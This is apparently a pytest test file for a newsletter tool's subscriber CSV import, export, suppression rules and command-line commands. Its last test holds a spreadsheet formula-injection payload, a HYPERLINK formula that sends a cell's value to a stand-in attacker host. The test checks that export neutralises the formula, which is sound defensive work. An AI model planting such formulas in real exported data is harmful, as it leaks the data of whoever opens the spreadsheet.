from __future__ import annotations

import csv
import io
import itertools
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
import sqlalchemy as sa
from click.testing import CliRunner
from sqlmodel import Session, select

from newsletter import storage, subscribers
from newsletter.cli import main
from newsletter.errors import SourceError
from newsletter.models import Subscriber, Suppression
from newsletter.subscribers import export_csv, import_csv

NOW = datetime(2026, 11, 20, tzinfo=UTC)


def status_of(engine: sa.Engine, email: str) -> str:
    with Session(engine) as session:
        found = storage.subscriber_by_email(session, email)
        assert found is not None
        return found.status


def load(engine: sa.Engine, text: str) -> object:
    return import_csv(engine, io.StringIO(text), NOW, UTC)


def test_bad_rows_are_reported_by_line_and_the_rest_imported(engine: sa.Engine) -> None:
    report = import_csv(
        engine,
        io.StringIO(
            "email,name,status,digests,tags,created_at\n"
            "good@example.org,Good,active,,,2024-03-01T10:00:00+00:00\n"
            "not-an-address,Bad,active,,,\n"
            "odd@example.org,Odd,sleeping,,,\n"
            "tags@example.org,T,active,,no-such-tag,\n"
            "date@example.org,D,active,,,yesterday\n"
            "extra@example.org,E,active,,,,surplus\n"
            "pending@example.org,,pending,,,\n"
        ),
        NOW,
        UTC,
    )
    assert [(e.line, e.field or e.reason) for e in report.errors] == [
        (3, "email"),
        (4, "status"),
        (5, "tags"),
        (6, "created_at"),
        (7, "more fields than the header names"),
    ]
    assert "'sleeping' is not one of pending, active" in report.errors[1].reason
    assert report.created == 2
    assert status_of(engine, "good@example.org") == "active"
    assert status_of(engine, "pending@example.org") == "pending"


def test_header_must_name_known_columns(engine: sa.Engine) -> None:
    with pytest.raises(SourceError, match="'email' column"):
        load(engine, "name,status\nA,active\n")
    with pytest.raises(SourceError, match="unknown column 'phone'"):
        load(engine, "email,phone\na@example.org,123\n")


def test_suppression_survives_reimport(engine: sa.Engine) -> None:
    load(engine, "email,status\nleaver@example.org,active\nbouncer@example.org,bounced\n")
    subscribers.suppress(engine, "leaver@example.org", "unsubscribed")
    report = load(
        engine,
        "email,status\nleaver@example.org,active\nbouncer@example.org,active\n"
        "never@example.org,active\n",
    )
    assert report.suppressed == 2  # type: ignore[attr-defined]
    assert status_of(engine, "leaver@example.org") == "unsubscribed"
    assert status_of(engine, "bouncer@example.org") == "bounced"
    subscribers.suppress(engine, "stranger@example.org", "complained")  # no subscriber yet
    load(engine, "email\nstranger@example.org\n")
    with Session(engine) as session:
        assert storage.subscriber_by_email(session, "stranger@example.org") is None


def test_active_subscribers_are_not_sent_back_to_confirmation(engine: sa.Engine) -> None:
    load(engine, "email,status\nkeen@example.org,active\nwaiting@example.org,pending\n")
    report = load(
        engine, "email,status,name\nkeen@example.org,pending,Keen\nwaiting@example.org,active,\n"
    )
    assert status_of(engine, "keen@example.org") == "active"
    assert status_of(engine, "waiting@example.org") == "active"
    assert report.updated == 2  # type: ignore[attr-defined]


def test_export_and_import_round_trip(engine: sa.Engine, tmp_path: Path) -> None:
    from newsletter.config import Settings
    from tests.test_web_feeds import record, store  # a couple of tags to choose from

    store(engine, Settings(root=tmp_path), record(1, tags=["Trade", "North Korea"]))
    load(
        engine,
        "email,name,status,digests,tags,created_at\n"
        "a@example.org,Ánh Nguyễn,active,,trade;north-korea,2025-01-02T03:04:05+00:00\n"
        'b@example.org,"Kim, Ji-won",pending,,,\n'
        "c@example.org,C,unsubscribed,,,\n",
    )
    first = io.StringIO()
    assert export_csv(engine, first) == 3
    report = load(engine, first.getvalue())
    assert (report.created, report.updated, report.unchanged) == (0, 0, 2)  # type: ignore[attr-defined]
    assert report.suppressed == 1  # type: ignore[attr-defined]  # c stays out
    second = io.StringIO()
    export_csv(engine, second)
    assert second.getvalue() == first.getvalue()
    assert "a@example.org,Ánh Nguyễn,active,digest,north-korea;trade,2025-01-02T03:04:05+00:00" in (
        first.getvalue()
    )


class _Rows(io.TextIOBase):
    """A CSV of `count` rows made on the fly, so the test itself holds none of them."""

    def __init__(self, count: int) -> None:
        self.rows: Iterator[str] = itertools.chain(
            ["email,name,status\n"],
            (f"user{i}@example.org,User {i},active\n" for i in range(count)),
        )

    def readable(self) -> bool:
        return True

    def __next__(self) -> str:
        return next(self.rows)

    def __iter__(self) -> _Rows:
        return self


def test_large_import_runs_in_constant_memory(engine: sa.Engine) -> None:
    peaks = []
    for count in (2_000, 20_000):
        rows = _Rows(count)
        tracemalloc.start()
        report = import_csv(engine, rows, NOW, UTC)  # type: ignore[arg-type]
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
        assert report.created + report.unchanged == count
    assert peaks[1] < peaks[0] * 2  # ten times the rows, not ten times the memory


def test_subscriber_commands(tmp_path: Path, database_url: str) -> None:
    runner = CliRunner()
    assert runner.invoke(main, ["init", str(tmp_path)]).exit_code == 0
    env = {"NEWSLETTER_DATABASE__URL": database_url}
    cfg = ["--config", str(tmp_path / "config.toml")]

    def run(*args: str) -> tuple[int, str]:
        result = runner.invoke(main, [*cfg, "subscribers", *args], env=env)
        return result.exit_code, result.output

    assert run("add", "One@Example.org", "--name", "One") == (0, "one@example.org: active\n")
    code, out = run("add", "--confirm", "two@example.org")
    assert code == 0 and "confirmation queued" in out
    assert len(list((tmp_path / "outbox").glob("*.eml"))) == 1
    csv_path = tmp_path / "in.csv"
    csv_path.write_text("email,status\nthree@example.org,active\nbroken,active\n")
    code, out = run("import", str(csv_path))
    assert code == 1
    assert f"{csv_path}:3: email: 'broken' is not an email address" in out
    assert "1 created" in out
    code, out = run("list")
    assert "one@example.org" in out and "pending      two@example.org" in out
    assert run("suppress", "three@example.org", "--reason", "bounced")[0] == 0
    assert "bounced      three@example.org" in run("list", "--status", "bounced")[1]
    code, out = run("add", "three@example.org")
    assert code == 1 and "three@example.org is suppressed (bounced)" in out
    exported = tmp_path / "out.csv"
    assert run("export", str(exported))[0] == 0
    assert exported.read_text().splitlines()[0] == "email,name,status,digests,tags,created_at"
    assert run("remove", "one@example.org")[0] == 0
    assert run("remove", "one@example.org")[0] == 1
    assert "no subscriber" in run("remove", "one@example.org")[1]


def test_no_suppressed_address_is_ever_active(engine: sa.Engine) -> None:
    load(engine, "email,status\nx@example.org,complained\n")
    load(engine, "email,status\nx@example.org,active\n")
    with Session(engine) as session:
        rows = session.exec(
            select(Subscriber, Suppression).join(
                Suppression,
                Suppression.email == Subscriber.email,  # type: ignore[arg-type]
            )
        ).all()
    assert [(s.status, p.reason) for s, p in rows] == [("complained", "complained")]


def test_columns_left_out_keep_what_subscribers_chose(engine: sa.Engine, tmp_path: Path) -> None:
    from newsletter.config import Settings
    from tests.test_web_feeds import record, store

    store(engine, Settings(root=tmp_path), record(1, tags=["Trade"]))
    load(engine, "email,tags\nkeep@example.org,trade\n")
    load(engine, "email,name\nkeep@example.org,Renamed\n")
    with Session(engine) as session:
        found = storage.subscriber_by_email(session, "keep@example.org")
        assert found is not None and found.name == "Renamed"
        assert list(storage.subscriptions_of(session, found.id or 0).values()) == [
            frozenset({"trade"})
        ]


def test_a_file_that_is_not_utf8_is_refused_clearly(engine: sa.Engine, tmp_path: Path) -> None:
    path = tmp_path / "latin1.csv"
    path.write_bytes("email,name\nx@example.org,Jos\xe9\n".encode("latin-1"))
    with (
        path.open(newline="", encoding="utf-8") as stream,
        pytest.raises(SourceError, match="not UTF-8 text"),
    ):
        import_csv(engine, stream, NOW, UTC)


def test_a_name_that_looks_like_a_formula_is_exported_as_text_and_comes_back(
    engine: sa.Engine,
) -> None:
    """A reader's name is whatever they typed at sign-up; opened in a spreadsheet, the
    export must not run it. The apostrophe that keeps it text is taken off on import."""
    formula = '=HYPERLINK("https://evil.example/?"&A2,"Click")'
    report = import_csv(
        engine,
        io.StringIO(
            f'email,name\na@example.org,"{formula.replace(chr(34), chr(34) * 2)}"\n'
            "b@example.org,-5 degrees\nc@example.org,Dewi\n"
        ),
        datetime.now(UTC),
        UTC,
    )
    assert report.errors == []
    out = io.StringIO()
    export_csv(engine, out)
    names = {row[0]: row[1] for row in csv.reader(io.StringIO(out.getvalue()))}
    assert names["a@example.org"] == "'" + formula
    assert names["b@example.org"] == "'-5 degrees"
    assert names["c@example.org"] == "Dewi"
    with Session(engine) as session:
        for row in session.exec(select(Subscriber)):
            session.delete(row)
        session.commit()
    assert import_csv(engine, io.StringIO(out.getvalue()), datetime.now(UTC), UTC).errors == []
    with Session(engine) as session:
        stored = {s.email: s.name for s in session.exec(select(Subscriber))}
    assert stored["a@example.org"] == formula and stored["b@example.org"] == "-5 degrees"
